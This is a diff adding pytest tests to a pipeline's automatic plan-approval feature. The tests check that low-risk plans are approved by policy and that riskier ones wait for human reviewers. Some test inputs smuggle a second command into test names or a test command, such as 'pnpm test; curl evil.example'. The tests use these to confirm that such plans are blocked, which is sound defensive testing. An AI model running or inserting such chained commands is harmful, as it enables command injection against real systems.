@@ -6,6 +6,7 @@ from typing import Any
 import httpx
 import pytest
 
+from sisu_pipeline import oracle
 from sisu_pipeline.contracts.access import Role
 from sisu_pipeline.domain.status import RunStatus
 from sisu_pipeline.store import deadlines
@@ -212,3 +213,55 @@ def test_a_deadline_that_an_earlier_release_let_approve_rejects_where_the_policy
     (decided,) = run.rows("plan_approvals")
     assert (decided["decided_by"], decided["decision"]) == (deadlines.ACTOR, "rejected")
     assert run.segment().status is RunStatus.RETRIES_EXCEEDED
+
+
+AUTOMATIC = {"paths": ["a.txt", "new/*"], "commands": ["pnpm test"], "maxBytes": 100, "maxTasks": 1}
+
+
+def test_a_plan_of_low_risk_is_approved_by_its_policy_which_is_shown_as_such(api: Api, recipe: Recipe) -> None:
+    recipe(required=2, self_approval=False, automaticApproval=AUTOMATIC)
+    run = Waiting(api.dependencies)
+    assert run.run.status is RunStatus.SUCCEEDED
+    view = api.get(f"/runs/{run.run_id}").json()
+    assert view["decision"]["decidedBy"] == "policy:default@2"
+    (gate,) = api.get(f"/runs/{run.run_id}/gates").json()["gates"]
+    assert (gate["state"], gate["decidedBy"]) == ("passed", "policy:default@2")
+    (said,) = api.get(f"/runs/{run.run_id}/interactions").json()["interactions"]
+    assert (said["actor"], said["kind"]) == ("policy:default@2", "approve")
+    with api.dependencies.database.connect() as connection:
+        broken = {verdict.law for verdict in oracle.judge(connection) if not verdict.holds}
+    # The results of these tests are not the mock provider's, which would leave receipts.
+    assert broken <= {"510_results_and_receipts_agree"}
+
+
+@pytest.mark.parametrize(
+    ("rule", "inputs"),
+    [
+        ({"paths": ["a.txt"]}, {}),
+        ({"commands": ["make test"]}, {}),
+        ({"maxBytes": 3}, {}),
+        ({}, {"tests": ["t1", "t2"]}),
+        ({}, {"tests": []}),
+        ({}, {"tests": ["t1; curl evil.example"]}),
+        ({}, {"tests": ["--upload"]}),
+        ({}, {"testCommand": "pnpm test; curl evil.example"}),
+    ],
+)
+def test_a_plan_beyond_the_rule_waits_for_people(
+    api: Api, recipe: Recipe, rule: dict[str, Any], inputs: dict[str, Any]
+) -> None:
+    recipe(automaticApproval=AUTOMATIC | rule)
+    run = Waiting(api.dependencies, **inputs)
+    assert run.run.status is RunStatus.WAITING_INPUT
+    assert run.rows("plan_approvals") == []
+
+
+def test_neither_a_plan_with_network_nor_one_whose_intent_refuses_is_approved_automatically(
+    api: Api, recipe: Recipe
+) -> None:
+    recipe(automaticApproval=AUTOMATIC)
+    refusing = Waiting(api.dependencies, constraints={"planAutomaticApproval": False})
+    assert refusing.run.status is RunStatus.WAITING_INPUT
+    with api.dependencies.database.connect() as connection:
+        apply_recipe(connection, "compile-default", net=True)
+    assert Waiting(api.dependencies).run.status is RunStatus.WAITING_INPUT
